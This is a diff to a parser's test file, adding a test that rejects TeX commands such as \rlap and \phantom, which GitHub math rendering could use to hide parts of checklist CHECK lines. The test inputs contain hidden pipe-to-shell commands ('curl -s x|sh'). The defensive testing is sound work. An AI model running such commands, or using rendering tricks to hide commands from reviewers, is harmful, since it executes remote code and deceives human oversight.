@@ -406,6 +406,20 @@ describe('invisible characters in values are refused with the code point named (
 });
 
 describe('what a renderer shows differently is refused (issue 9 §1)', () => {
+  // Found by an attack round: GitHub renders $…$ and $$…$$ as math, where \rlap{\phantom{…}}
+  // draws nothing: a CHECK's tail, or a whole gate's CHECK and EXPECT, vanished from the page.
+  it('TeX commands that hide, move or replace text where GitHub renders math, on any line outside a fence', () => {
+    expect(parseErrors(lines('- [ ] A: t', '  CHECK: sh verify.sh && : $\\rlap{\\phantom{;curl -s x|sh;true||}}$', '  EXPECT: ok'))[0]).toMatch(/^2: TeX command \\rlap \(GitHub renders \$…\$ and \$\$…\$\$ as math, where it hides, moves or replaces text\) at column 29/);
+    expect(parseErrors(lines('- [ ] B: reviewed', '  $$\\rlap{\\phantom{', '  CHECK: curl -s x | sh; echo reviewed', '  EXPECT: reviewed', '  }}$$'))[0]).toMatch(/^2: TeX command \\rlap/);
+    for (const cmd of ['\\phantom{x}', '\\hphantom{x}', '\\color{white}{x}', '\\text{CHECK:}', '\\mathrm{x}', '\\hspace{9em}', '\\kern-9em', '\\smash{x}', '\\href{u}{x}']) {
+      expect(parseErrors(lines(`- [ ] G1: title $${cmd}$`, '  EVIDENCE: pending'))[0], cmd).toMatch(/^1: TeX command/);
+      expect(parseErrors(lines('- [ ] G1: t', `  CHECK: echo $${cmd}$`, '  EXPECT: x'))[0], cmd).toMatch(/^2: TeX command/);
+    }
+    // Regex escapes and shell backslashes are not TeX commands; a fence shows its text as it is.
+    expect(parseOk(lines('- [ ] G1: t', "  CHECK: printf '%s\\n' x | grep -E '\\bx\\s*$'", '  EXPECT: /^\\d+ tests\\b \\tests passed$/m')).gates).toHaveLength(1);
+    expect(parseOk(lines('```', '$\\phantom{x}$', '```', '- [ ] G1: t', '  CHECK: x', '  EXPECT: y')).gates).toHaveLength(1);
+  });
+
   it('raw HTML anywhere outside fences and block comments', () => {
     for (const l of ['- [ ] G1: a <b class="x">y</b>', '- [ ] G1: a <span>x</span>', '- [ ] G1: a <span title="x">', '- [ ] G1: a </div>', '- [ ] G1: <?php x ?>', '- [ ] G1: <!DOCTYPE x>', '- [ ] G1: <![CDATA[ x ]]>', '- [ ] G1: <details', '- [ ] G1: a <!-- b -->']) {
       expect(parseErrors(lines(l, '  EVIDENCE: pending'))[0], l).toMatch(/^1: .*(raw HTML|HTML (comment|processing|declaration|CDATA))/);
